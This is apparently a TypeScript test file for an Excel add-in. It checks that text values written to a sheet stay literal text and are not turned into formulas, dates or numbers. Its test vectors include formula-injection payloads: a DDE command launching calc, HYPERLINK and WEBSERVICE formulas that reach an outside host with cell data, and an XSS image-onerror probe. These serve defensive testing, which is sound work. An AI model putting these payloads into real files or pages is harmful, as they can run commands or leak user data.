import type { SheetModel } from '@report/addin/layout';
import { ExcelHost } from '../../../excel-host';
import { smallModel } from './small-models';
import { open, openUserWorkbook } from './user-workbook';
import { write } from './write';

/** Texts that Excel would make a formula, a date, a number or a boolean of, and some that break careless writers. */
const VECTORS = [
  '=1+1',
  '+1',
  '-1+2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\u00a0=1',
  '\uFEFF=1',
  '＝1',
  '%0A=1',
  '|cmd',
  '=HYPERLINK("http://x/?"&A1)',
  '=WEBSERVICE("http://x")',
  "=cmd|' /c calc'!A1",
  '1-4',
  '+352 26 48 41 41',
  ' 007 ',
  '#N/A',
  '#REF!',
  'FAUX',
  '5-8',
  '9-12',
  '3/4',
  '1E5',
  'TRUE',
  'VRAI',
  '00123',
  '01/04/2016',
  '12:30',
  '50 %',
  '1 228',
  "'entre apostrophes'",
  "''",
  '<img src=x onerror=alert(1)>',
  '&amp; <b> "x"',
  'ligne\nsuivante',
  ' espaces ',
  '🙂 é ǅ',
];

const model = (): SheetModel =>
  smallModel('Textes', 0, {
    rows: VECTORS.map((value) => ({ height: 15.5, cells: [{ column: 0, value, role: 'stub' as const }] })),
    names: [],
    printArea: `A1:B${VECTORS.length}`,
  });

test('a text stays the same text: no formula, no date, no number', async () => {
  const { host, runner } = await openUserWorkbook();
  await write(runner, [model()]);
  const { ws } = host.sheet('Textes');
  const range = host.sheet('Textes').GetRange(`A1:A${VECTORS.length}`);
  expect(range.Values?.map(([value]) => value)).toEqual(VECTORS);
  expect(range.Formulas).toEqual(range.Values);
  // Of a text like «#N/A» the host says that it is an error; what counts is what the cell holds.
  const kinds = VECTORS.map((_, row) => [typeof ws.getCell(row + 1, 1).value, ws.getCell(row + 1, 1).formula]);
  expect(new Set(kinds.map((kind) => JSON.stringify(kind)))).toEqual(new Set(['["string",null]']));
  expect(new Set(range.ValueTypes?.flat().filter((_, row) => !VECTORS[row]?.startsWith('#')))).toEqual(
    new Set(['String']),
  );
  expect(host.warnings).toEqual([]);
});

test('and in the saved file', async () => {
  const { host, runner } = await openUserWorkbook();
  await write(runner, [model()]);
  const again = open(await ExcelHost.open(await host.save())).host;
  const range = again.sheet('Textes').GetRange(`A1:A${VECTORS.length}`);
  // A return, which XML would make a line feed of, too: the format of the file has a notation for it («_x000D_»).
  expect(range.Values?.map(([value]) => value)).toEqual(VECTORS);
  expect(range.Formulas).toEqual(range.Values);
});
